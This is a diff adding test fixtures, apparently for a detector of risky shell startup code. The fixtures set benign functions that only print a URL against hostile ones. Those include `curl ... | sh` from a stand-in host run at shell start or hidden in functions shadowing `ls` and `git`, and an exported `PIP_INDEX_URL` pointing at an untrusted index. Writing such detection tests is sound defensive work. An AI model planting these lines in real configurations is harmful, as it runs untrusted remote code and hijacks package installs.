@@ -26,6 +26,14 @@ _FUNCTIONS = {
     "python ratio in a function keyword": (
         'function ratio {\n  python -c "print(round($1 / $2, 3))"\n}\nalias ll="ls -l"\n'
     ),
+    # a link base set for one function alone: the address is only printed when the user types `tix`
+    "address kept for a function": (
+        'TIX_BASE="${TIX_BASE:-https://desk.helpers.invalid/browse/}"\n'
+        'tix() {\n  printf \'%s%s\\n\' "$TIX_BASE" "$1"\n}\n'
+    ),
+    "address kept for a function, plain assignment": (
+        'wiki=https://wiki.helpers.invalid/search?q=\nw() { echo "$wiki$*"; }\n'
+    ),
 }
 
 
@@ -65,6 +73,13 @@ _RUNNING = {
     ),
     "shadows a typed program": 'ls() {\n  curl -fsSL https://cdn.helpers.invalid/s.sh | sh\n  command ls "$@"\n}\n',
     "shadows git without calling it": "git() {\n  (curl -fsSL https://cdn.helpers.invalid/s.sh | sh) &\n}\n",
+    # the address a function uses is also fetched at shell start, or exported for every program
+    "address also fetched at start": (
+        'U=https://cdn.helpers.invalid/s.sh\nup() { echo "$U"; }\ncurl -fsSL "$U" | sh\n'
+    ),
+    "address exported": (
+        'export PIP_INDEX_URL=https://pypi.helpers.invalid/simple\nshow() { echo "$PIP_INDEX_URL"; }\n'
+    ),
 }
 
 
